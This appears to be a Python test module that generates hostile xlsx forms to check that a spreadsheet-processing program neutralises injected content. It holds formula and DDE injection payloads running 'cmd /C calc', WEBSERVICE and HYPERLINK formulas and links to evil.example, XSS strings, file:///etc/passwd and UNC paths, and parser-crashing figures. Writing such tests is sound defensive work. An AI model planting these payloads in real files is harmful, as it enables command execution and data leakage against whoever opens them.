"""Words that want to be more than words: formulas, links, markup, marks that turn or hide text, absurd figures.

They stand in forms that are otherwise sound, so that they travel through the whole program into every output.
"""

from __future__ import annotations

from typing import TYPE_CHECKING
from xml.sax.saxutils import escape

from tests import formats
from tests.builders import Layout
from tests.hostile.sheets import after_rows, first_value, in_rows, rewritten
from tests.messy.county import FIGURES, book_of, put
from tests.read.books import changed

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.filings import Book

MARK = "毒"
"""Stands in every text that a file brings, so that it can be looked for in the outputs."""

WORDS = (
    f'=HYPERLINK("http://evil.example/{MARK}","点我")',
    f"=cmd|'/C calc'!A0 {MARK}",
    f"+1+1 {MARK}",
    f"-2+3 {MARK}",
    f"@SUM(1) {MARK}",
    f"|calc {MARK}",
    f"%0A {MARK}",
    f"\t=1+1 {MARK}",
    f"＝1+1 {MARK}",
    f"＠SUM(1) {MARK}",
    f'=WEBSERVICE("http://evil.example/{MARK}")',
    f"http://evil.example/{MARK}",
    f"file:///etc/passwd#{MARK}",
    f"\\\\evil.example\\share\\{MARK}",
    f"javascript:alert('{MARK}')",
    f"<script>alert('{MARK}')</script>",
    f"<img src=x onerror=alert('{MARK}')>",
    f"]]></t><f>1+1</f>{MARK}",
    f"&lt;b&gt;{MARK}&amp;",
    f"{{{{7*7}}}}{MARK}",
    f"\u202e{MARK}xslx.exe",
    f"\u200b\u200d\ufeff{MARK}\u2066",
    f"_x003D_1+1 {MARK}",
    f"_x0000__x0008_{MARK}",
    f"_xD800_{MARK}",
    f"{MARK}\ufffe\uffff",
    MARK * 40_000,
    f"{MARK}\r\n=1+1\r\n",
    f"'=1+1 {MARK}",
)
LONG = (
    "一" * 5000,
    "9" * 5000,
    "²²²",
    "1" + "0" * 5000,
    "0." + "0" * 5000 + "1",
    "1," * 3000,
    "（" * 3000 + "1",
    "约" * 5000,
    "万" * 3000 + "1",
)
"""Texts in the place of figures on which a careless program calculates for ever or falls over."""

NUMBERS = (
    "NaN",
    "INF",
    "-INF",
    "1e400",
    "1E+308",
    "-1E+308",
    "1e-400",
    "123456789012345678",
    "-1",
    "0.1",
    "--5",
    "²",
    "１２",
    "1_000",
    "0x10",
    " 12 ",
    "1e99999999999",
    "9" * 5000,
)


def _quiet(text: str) -> str:
    """The text as XML can hold it."""
    return escape(
        "".join(
            c if c in "\t\r\n" or " " <= c <= "\ud7ff" or "\ue000" <= c <= "\ufffd" else f"_x{ord(c):04X}_"
            for c in text
        )
    )


def put_all(unit: str, text: str) -> Book:
    """A form with the text as every figure."""
    book = book_of(unit)
    for code in FIGURES:
        put(book, code, text)
    return book


def in_cells(unit: str, word: str) -> bytes:
    """A form with the word as the unit's name, as an answer, a figure, a remark, a comment and the sheet's name."""
    book = book_of(unit, layout=Layout(remarks=True))
    for code in ("C4t", "A22", "F"):
        put(book, code, f"占位{code}")
    content = formats.to_xlsx(book)

    def change(name: str, data: bytes) -> bytes:
        if name != "xl/sharedStrings.xml":
            return data
        text = data.decode()
        for code in ("C4t", "A22", "F"):
            text = text.replace(f"占位{code}", _quiet(word))
        return text.replace("王一", _quiet(word[:60])).encode()

    return changed(content, change)


def as_unit(word: str) -> bytes:
    """A form whose unit and sheet bear the word."""
    content = formats.to_xlsx(book_of("占位镇"))
    content = rewritten(content, "xl/sharedStrings.xml", lambda text: text.replace("占位镇", _quiet(word)))
    name = escape(_quiet(word), {'"': "&quot;"})
    return rewritten(content, "xl/workbook.xml", lambda text: text.replace('name="Sheet1"', f'name="{name}"'))


def _links(content: bytes) -> Iterator[tuple[str, bytes]]:
    schemes = (
        "javascript:alert(1)",
        "file:///etc/passwd",
        "\\\\evil.example\\x",
        "http://evil.example/x",
        "ms-msdt:/id",
        "mailto:a@evil.example",
    )
    relations = "".join(
        f'<Relationship Id="rId9{n}" TargetMode="External" Target="{escape(target)}" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
        for n, target in enumerate(schemes)
    )
    links = "".join(f'<hyperlink ref="A{n + 5}" r:id="rId9{n}" tooltip="{MARK}"/>' for n in range(len(schemes)))
    linked = after_rows(content, f"<hyperlinks>{links}</hyperlinks>")
    part = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relations}</Relationships>'
    from tests.hostile.archives import twice

    yield "超链接", twice(linked, "xl/worksheets/_rels/sheet1.xml.rels", part.encode())
    yield "宏", twice(content, "xl/vbaProject.bin", MARK.encode() * 100)
    yield "自定义界面", twice(content, "customUI/customUI.xml", f'<customUI onLoad="{MARK}"/>'.encode())
    yield "内嵌对象", twice(content, "xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + bytes(600))
    external = f'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/C calc {MARK}"/></externalLink>'
    yield "DDE链接", twice(content, "xl/externalLinks/externalLink1.xml", external.encode())
    yield (
        "数据连接",
        twice(content, "xl/connections.xml", f'<connections><connection name="{MARK}"/></connections>'.encode()),
    )
    formula = f'<c r="{{}}"><f>WEBSERVICE("http://evil.example/{MARK}")</f><v>30</v></c>'
    yield "公式取网页", first_value(content, formula)
    yield "公式DDE", first_value(content, f"<c r=\"{{}}\"><f>cmd|'/C calc {MARK}'!A0</f><v>30</v></c>")
    yield "公式外部", first_value(content, "<c r=\"{}\"><f>'\\\\evil.example\\[毒.xlsx]x'!A1</f><v>30</v></c>")


def filings(units: list[str]) -> Iterator[tuple[str, bytes]]:
    """(name, file) of forms with such words and numbers; they are read, each with one status of its own."""
    unit = iter(units)
    for number, word in enumerate(WORDS):
        yield f"文字{number:02}", in_cells(next(unit), word)
        yield f"单位{number:02}", as_unit(word)
    for number, text in enumerate(NUMBERS):
        yield f"数字{number:02}", first_value(formats.to_xlsx(book_of(next(unit))), f'<c r="{{}}"><v>{text}</v></c>')
    for number, text in enumerate(LONG):
        yield f"长数{number:02}", formats.to_xlsx(put_all(next(unit), text))
    sound = formats.to_xlsx(book_of(next(unit)))
    yield "日期为负", first_value(sound, '<c r="{}" t="d"><v>-0001-01-01</v></c>')
    yield "真假值", first_value(sound, '<c r="{}" t="b"><v>7</v></c>')
    yield "类型不明", first_value(sound, '<c r="{}" t="zzz"><v>7</v></c>')
    yield "四兆文字", first_value(sound, f'<c r="{{}}" t="str"><v>{MARK * 1_400_000}</v></c>')
    yield "孤格之后", in_rows(sound, '<row r="1048576"><c r="XFD1048576" t="str"><v>毒</v></c></row>')
    yield from _links(formats.to_xlsx(book_of(next(unit))))
